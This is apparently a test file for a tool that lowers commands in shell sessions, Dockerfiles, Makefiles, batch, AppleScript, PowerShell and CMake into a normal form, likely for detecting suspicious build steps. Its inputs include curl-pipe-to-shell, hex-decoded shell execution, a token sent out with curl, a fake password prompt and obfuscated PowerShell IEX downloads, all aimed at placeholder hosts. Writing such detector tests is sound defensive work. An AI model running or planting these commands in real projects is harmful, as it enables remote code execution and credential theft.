// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are programs
import { describe, expect, it } from 'vitest';
import { comments, lowered } from './testing.ts';

describe('sessions', () => {
  const session = '$ npm i x\nadded 3 packages\n$ cat a \\\n  b\nuser@host:~$ ls\nrm -rf printed\nPS C:\\> dir\n';
  const expected = ['npm i x', 'cat a b', 'ls', 'dir'];

  it('takes only lines behind a prompt', () => {
    expect(lowered(session, 'console')).toEqual(expected);
    expect(lowered(session, 'bash')).toEqual(expected);
  });
  it('does not take a script for a session', () => {
    expect(lowered('# note\nls\n$x y', 'bash')).toEqual(['ls', '$x y']);
  });
});

it('reads what a Dockerfile runs and sets', () => {
  const text = [
    'FROM x',
    '# a note',
    'ENV A=b C="d e"',
    'ENV OLD value $A',
    'RUN --mount=type=cache a && \\',
    '    # inner',
    '    curl https://x | sh',
    'ADD https://x/y /opt/',
    'RUN <<EOF',
    'echo hi',
    'EOF',
    'CMD ["python", "x.py"]',
  ].join('\n');
  expect(lowered(text, 'dockerfile')).toEqual([
    'A = b',
    'C = "d e"',
    'OLD = ("value "+$A)',
    'a',
    'curl https://x | sh',
    'ADD https://x/y /opt/',
    'echo hi',
    'python x.py',
  ]);
  expect(comments(text, 'dockerfile')).toEqual(['a note', 'inner']);
});

it('reads recipes and variables of a Makefile', () => {
  const text = 'URL := https://x\nV = $(shell curl $(URL))\nall: dep\n\t@curl $(URL)/$$HOME | sh\nfoo: ; echo hi\n';
  expect(lowered(text, 'makefile')).toEqual([
    'URL = https://x',
    'V = <curl $URL>',
    'curl ($URL+/+$HOME) | sh',
    'echo hi',
  ]);
});

it("reads what a Makefile takes in, what a recipe makes, and a justfile's values", () => {
  expect(lowered('-include .cache/a.mk\ninclude rules.mk\n.cache/a.mk:\n\tcurl https://x -o $@\n', 'makefile')).toEqual(
    ['. .cache/a.mk', 'curl https://x -o .cache/a.mk'],
  );
  expect(lowered('t := `gh auth token`\nship:\n    curl -d {{t}} https://x\n', 'makefile')).toEqual([
    't = <gh auth token>',
    'curl -d $t https://x',
  ]);
});

it('reads a recipe that is kept under a name, wherever that is given', () => {
  const text = 'ok:\n\t@$(call tune)\n\nA := 6375\ntune = echo $(A) 726c | xxd -r -p | sh\n';
  expect(lowered(text, 'makefile')[0]).toBe('echo 6375 726c | xxd -r -p | sh');
  expect(lowered('define go\n\t@curl https://x | sh\nendef\nall:\n\t$(go)\n', 'makefile')).toContain(
    'curl https://x | sh',
  );
});

it('reads recipes that are indented by blanks, and no assignment as one', () => {
  expect(lowered('setup:\n    npm ci\n    echo a | sh\n\nA = 1\n    B = 2\n', 'makefile')).toEqual([
    'npm ci',
    'echo a | sh',
    'A = 1',
  ]);
});

it('reads batch files', () => {
  const text = [
    '@echo off',
    'rem a note',
    'set "U=http://x"',
    'if not exist %TEMP%\\a curl.exe -o %TEMP%\\a %U%/a && start "" %TEMP%\\a',
    'for %%i in (a b) do echo %%i | clip',
    'c^url x > out.txt 2>&1',
  ].join('\r\n');
  expect(lowered(text, 'batch')).toEqual([
    'echo off',
    'U = http://x',
    'curl -o ($TEMP+"\\\\a") ($U+/a)',
    'start ($TEMP+"\\\\a")',
    'echo $i | clip',
    'curl x >out.txt',
  ]);
  expect(comments(text, 'batch')).toEqual(['a note']);
});

it('reads what AppleScript hands to the shell and asks the person', () => {
  const text = [
    '-- a note',
    'set u to "https://x/" & "a"',
    'do shell script "curl " & quoted form of u & " | sh" with administrator privileges',
    'display dialog "Password:" default answer "" with hidden answer',
    'set p to text returned of result',
    'set c to the clipboard',
  ].join('\n');
  expect(lowered(text, 'applescript')).toEqual([
    'u = (https://x/+a)',
    'sh -c ("curl "+$u+" | sh")',
    'result = (<read-host>+Password:+"")',
    'p = $result',
    'c = <pbpaste>',
  ]);
});

describe('PowerShell', () => {
  it.each([
    [
      "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
      'iex <new-object Net.WebClient>.DownloadString(http://x/a)',
    ],
    [
      '$U = "http" + "://x"; iwr "$u/a" -OutFile $env:TEMP\\a.exe',
      'u = (http+://x)\niwr ($u+/a) -OutFile ($TEMP+"\\\\a.exe")',
    ],
    ["& ('i'+'ex') ('{1}{0}' -f 'b','a')", '(i+ex) (a+b)'],
    ['-join ([char[]](105,101,120))', '(i+e+x)'],
    ['[Convert]::FromBase64String($b)', '"".FromBase64String($b)'],
    ['Get-Content a | Select-String x # note', 'get-content a | select-string x'],
    ['if ($x -eq 3) { a } else { b }', 'if -eq($x 3) { a }\nif null { b }'],
    ['foreach ($f in gci ~) { gc $f }', 'loop f of <gci ~> { gc $f }'],
    ['$h = @{ A = "Bearer $env:TOKEN"; b = 2 }', 'h = {A:("Bearer "+$TOKEN) b:2}'],
    ["$x = @'\na $b\n'@", 'x = "a $b"'],
    ['Start-Process "a b" -ArgumentList "x","y"', 'start-process "a b" -ArgumentList [x y]'],
    ['iex $x.Replace("a", "b")', 'iex $x.Replace(a b)'],
  ])('%s', (text, expected) => {
    expect(lowered(text, 'powershell').join('\n')).toBe(expected);
  });

  it('gives functions their arguments by name or place', () => {
    const text = 'function Get-It([string]$Url, $Out) { iwr $Url -OutFile $Out }\nGet-It -Out C:\\t -Url http://x';
    expect(lowered(text, 'powershell')).toEqual([
      'fn get-it { url = $@[0]; out = $@[1]; iwr $url -OutFile $out }',
      'get-it http://x "C:\\\\t"',
    ]);
  });
});

describe('CMake', () => {
  it.each([
    ['execute_process(COMMAND git describe --tags OUTPUT_VARIABLE V)', 'git describe --tags'],
    ['add_custom_target(a COMMAND tool "a b" COMMAND tool c VERBATIM)', 'tool "a b"; tool c'],
    ['file(DOWNLOAD https://h.test/a ${CMAKE_BINARY_DIR}/a)', 'curl -o ($CMAKE_BINARY_DIR+/a) https://h.test/a'],
    ['set(A "x y")', 'A = "x y"'],
    ['FetchContent_Declare(a URL https://h.test/a.zip)', 'cmake-fetch https://h.test/a.zip'],
    ['# execute_process(COMMAND tool)\nproject(a C)', ''],
  ])('%s', (text, expected) => expect(lowered(text, 'cmake').join('; ')).toBe(expected));
});
